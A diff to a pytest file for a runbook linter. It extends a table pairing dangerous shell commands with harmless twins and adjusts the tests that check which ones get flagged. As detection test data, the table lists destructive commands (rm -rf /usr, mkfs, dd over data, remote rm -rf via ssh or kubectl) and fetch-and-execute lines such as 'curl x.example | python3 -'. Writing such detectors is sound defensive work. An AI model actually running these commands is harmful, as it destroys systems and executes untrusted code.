@@ -38,7 +38,7 @@ TABLE: dict[str, list[tuple[str, str]]] = {
         ("ls | xargs -n 1 sh -c 'rm -rf /usr'", "ls | xargs -n 1 sh -c 'uptime'"),
         (r"find /x -exec sh -c 'rm -rf /usr' \;", r"find /x -exec sh -c 'uptime' \;"),
         (r"find /x -exec rm -rf /usr \;", "find /srv -type f"),
-        ("mv /etc /tmp/old", "mv /srv/app/new /srv/app/old"),
+        ("mv /etc /tmp/old", "mv -n /srv/app/new /srv/app/old"),
     ],
     "wipe-disk": [
         ("mkfs.ext4 -F /dev/xvdf", "printf '%s\\n' 'mkfs.ext4 /dev/sda'"),
@@ -73,7 +73,7 @@ TABLE: dict[str, list[tuple[str, str]]] = {
         ("source <(wget -qO- x.example)", ". /etc/os-release"),
         ("echo cm0= | base64 -d | bash", "base64 -d </run/x >/run/firstline/y"),
         ('bash <<<"$(base64 -d /run/x)"', "sort </run/x"),
-        ("curl x.example | tee /tmp/x | python3 -", "curl -s localhost | python3 -c 'import sys; print(sys.stdin)'"),
+        ("curl x.example | tee /tmp/x | python3 -", "curl -s localhost | jq ."),
     ],
     "text-as-code": [
         ('eval "$command"', "echo eval"),
@@ -92,6 +92,15 @@ TABLE: dict[str, list[tuple[str, str]]] = {
         ("systemctl restart app", "systemctl reload nginx"),
         ('kill -TERM "$pid"', 'kill -s 0 "$pid"'),
         ("docker restart shop", "docker ps -a"),
+        ("systemctl disable app", "systemctl is-enabled app"),
+        ("systemctl mask app", "systemctl show -p Id app"),
+        ("supervisorctl restart app", "supervisorctl status"),
+        ("nginx -s stop", "nginx -t"),
+        ("fuser -k /srv/x", "fuser /srv/x"),
+        ("docker compose down", "docker compose ps"),
+        ("kubectl drain node-1", "kubectl describe node node-1"),
+        ("loginctl terminate-session 3", "loginctl list-sessions"),
+        ("redis-cli SHUTDOWN", "redis-cli PING"),
     ],
     "lock-out": [
         ("systemctl stop sshd", "systemctl is-active sshd"),
@@ -136,6 +145,33 @@ TABLE: dict[str, list[tuple[str, str]]] = {
         ("find /srv -mtime +30 -delete", "find /srv -xdev -type f -mtime +30 -delete"),
         ("find /srv -xdev -exec rm -f {} +", "find /var/log -xdev -name '*.gz' -exec rm -f -- {} +"),
     ],
+    "remove-files": [
+        ("rm -f /srv/app/old.gz", "rm -f /run/app/old.gz"),
+        ('rm -f "$file"', 'file=$(mktemp); rm -f "$file"'),
+        ('for f in /run/firstline/x; do rm -f "$f"; done', "rm -f /var/cache/app/list"),
+        ("rm -f /run/../srv/app/data", "rm -f /tmp/app.pid"),
+        ("unlink /srv/app/data", "readlink /srv/app/data"),
+        ("ls /srv | xargs rm -f", "ls /srv | xargs du"),
+        ("find /srv -xdev -type f -mtime +30 -delete", "find /tmp -xdev -type f -mtime +30 -delete"),
+        ('find "${SSM_path:?}" -xdev -type f -mtime +3 -delete', "find /srv -xdev -type f -mtime +3"),
+        ("find /srv -xdev -name '*.gz' -exec rm -f -- {} +", "find /srv -xdev -name '*.gz' -exec ls -l {} +"),
+        ("find /srv -xdev -type f -exec truncate -s 0 {} +", "find /srv -xdev -type f -exec stat {} +"),
+        ("journalctl --vacuum-time=3d", "journalctl --disk-usage"),
+        ("systemd-tmpfiles --clean", "systemd-tmpfiles --cat-config"),
+        ("logrotate -f /etc/logrotate.conf", "logrotate -d /etc/logrotate.conf"),
+    ],
+    "other-language": [
+        ("python3 -c 'import os; os.remove(\"/srv/x\")'", "python3 --version"),
+        ("perl -e 'unlink \"/srv/x\"'", "jq . /srv/x"),
+        ("perl -i -pe s/a/b/ /etc/app.conf", "sed -n s/a/b/p /etc/app.conf"),
+        ("ruby /srv/fix.rb", "command -v ruby"),
+        ("node -e 'x()'", "pgrep -x node"),
+        ("python3 <<'END'\nimport os\nEND", "cat <<'END'\npython3 x\nEND"),
+        ("awk 'BEGIN { system(\"rm /srv/x\") }'", "awk '{ print $1 }' /srv/x"),
+        ("docker exec shop rm -rf /srv", "docker ps"),
+        ("kubectl exec shop -- rm -rf /srv", "kubectl get pods"),
+        ("ssh db-1 rm -rf /srv", "getent hosts db-1"),
+    ],
     "remove-packages": [
         ("apt-get autoremove -y", "apt-get clean"),
         ("dnf -y history undo last", "dnf -y history"),
@@ -151,7 +187,20 @@ TABLE: dict[str, list[tuple[str, str]]] = {
         ('truncate -s 0 -- "$file"', 'file=$(mktemp); truncate -s 0 "$file"'),
         (": >/etc/app.conf", ": >/var/log/app.log"),
         ("echo x | tee /etc/app.conf", "echo x | tee -a /etc/app.conf"),
-        ("rsync -a --delete /srv/a/ /srv/b/", "rsync -a /srv/a/ /srv/b/"),
+        ("rsync -a --delete /srv/a/ /srv/b/", "rsync -a --ignore-existing /srv/a/ /srv/b/"),
+        ("rsync -a /srv/a/ /srv/b/", "rsync -a --backup /srv/a/ /srv/b/"),
+        (": >/var/log/../lib/app/data", ": >/var/log/app.log"),
+        ('echo x >"$SSM_queue"', 'echo x >>"$SSM_queue"'),
+        ('echo x | tee "$f"', 'f=/run/firstline/x; echo x | tee "$f"'),
+        ('f=/run/firstline/x; f=/srv/x; echo x | tee "$f"', "echo x | tee -a /srv/x"),
+        ("dd if=/dev/zero of=/srv/app/data bs=1M count=1", "dd if=/srv/app/data of=/dev/null bs=1M count=1"),
+        ('mv "$new" /srv/app/current', "mv --backup=numbered /srv/app/new /srv/app/current"),
+        ("cp -f /srv/app/new /etc/app.conf", "cp -n /srv/app/new /etc/app.conf"),
+        ("install -m 644 /srv/x /etc/app.conf", "install -d -m 755 /srv/app/spool"),
+        ("ln -sfn /srv/v1 /srv/current", "ln -s /srv/v1 /srv/current"),
+        ("sed -i s/a/b/ /etc/app.conf", "sed -i.bak s/a/b/ /etc/app.conf"),
+        ("curl -so /etc/app.conf localhost", "curl -s -o /dev/null localhost"),
+        ("tar -xf /srv/x.tar -C /srv/app", "tar --keep-old-files -xf /srv/x.tar -C /srv/app"),
     ],
     "drop-data": [
         ("crontab -r", "crontab -l"),
@@ -206,13 +255,17 @@ TABLE: dict[str, list[tuple[str, str]]] = {
     ],
     "unreadable": [("if true; then rm -rf /srv", 'x=$((10#$y * 2)); [[ $x =~ ^[0-9]+$ ]] && echo "$x"')],
 }
+HOW_FILES_GO = ("remove-system", "remove-variable", "remove-glob", "find-delete")
+"""Dangers of the way in which files are removed: the harmless twin is careful, and still needs the risk to remove."""
+
 ROWS = [(danger, found, harmless) for danger, pairs in TABLE.items() for found, harmless in pairs]
 
 
 @pytest.mark.parametrize(("danger", "script", "twin"), ROWS, ids=[row[1] for row in ROWS])
 def test_a_dangerous_command_is_found_and_its_harmless_twin_is_not(danger: str, script: str, twin: str) -> None:
     assert danger in [found for found, _ in dangers(f"uptime\n{script}\n")]
-    assert dangers(twin) == []
+    also = {"remove-files"} if danger in HOW_FILES_GO else set[str]()
+    assert {found for found, _ in dangers(twin)} <= also
 
 
 def test_the_table_shows_every_danger_that_the_linter_knows() -> None:
@@ -287,6 +340,8 @@ verify:
   run: "true"
 """
 
+VERIFY = {"run": "true", "within": "1m", "every": "20s"}
+
 type Make[T] = Callable[..., T]
 
 
@@ -304,7 +359,7 @@ def with_act(make_runbook: Make[Runbook]) -> Make[Runbook]:
             "run": f'drain -- "$SSM_spool"\n# the next line is the one\n{run}\n',
             **step,
         }
-        return make_runbook(risk=risk, steps=[look, drain])
+        return make_runbook(risk=risk, steps=[look, drain], verify=VERIFY)
 
     return make
 
@@ -320,7 +375,7 @@ def test_a_script_on_its_keys_line_is_reported_at_that_line(make_runbook: Make[R
     look = {"id": "look", "kind": "diagnose", "run": "systemctl restart app"}
     drain = {"id": "drain", "kind": "act", "run": 'drain -- "$SSM_spool"\n'}
 
-    (problem,) = told(make_runbook(risk="disruptive", steps=[look, drain]))
+    (problem,) = told(make_runbook(risk="disruptive", steps=[look, drain], verify=VERIFY))
 
     assert problem.startswith("drain-spool.yaml:5: steps.0.run: looks-only: ")
 
